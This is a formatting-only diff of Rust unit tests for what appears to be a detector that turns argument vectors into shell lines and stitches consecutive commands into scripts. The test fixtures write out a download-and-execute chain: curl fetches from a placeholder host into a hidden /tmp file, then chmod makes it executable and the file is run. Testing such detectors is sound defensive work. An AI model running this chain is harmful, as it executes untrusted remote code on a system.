@@ -73,7 +73,13 @@ mod tests {
     #[test]
     fn argument_vectors_read_as_shell_lines() {
         assert_eq!(
-            argv_line(&words(&["curl", "-s", "https://x.example.invalid/a", "-o", "/tmp/.a"])),
+            argv_line(&words(&[
+                "curl",
+                "-s",
+                "https://x.example.invalid/a",
+                "-o",
+                "/tmp/.a"
+            ])),
             Some("curl -s https://x.example.invalid/a -o /tmp/.a".to_string())
         );
         assert_eq!(
@@ -87,7 +93,11 @@ mod tests {
     #[test]
     fn several_command_lines_make_one_script_reported_at_the_last() {
         let commands = vec![
-            (0, 10, "curl -s https://x.example.invalid/a -o /tmp/.a".to_string()),
+            (
+                0,
+                10,
+                "curl -s https://x.example.invalid/a -o /tmp/.a".to_string(),
+            ),
             (20, 30, "chmod +x /tmp/.a".to_string()),
             (40, 50, "/tmp/.a".to_string()),
         ];
@@ -101,7 +111,10 @@ mod tests {
         // One command is already read on its own.
         assert!(shell_script(&commands[..1]).is_none());
         // A script past the size bound stops at the last line that fits.
-        let long = vec![(0, 1, "x".repeat(MAX_CALL_BYTES - 1)), (2, 3, "y".to_string())];
+        let long = vec![
+            (0, 1, "x".repeat(MAX_CALL_BYTES - 1)),
+            (2, 3, "y".to_string()),
+        ];
         let cut = shell_script(&long).unwrap();
         assert_eq!((cut.start, cut.end), (0, 1));
     }
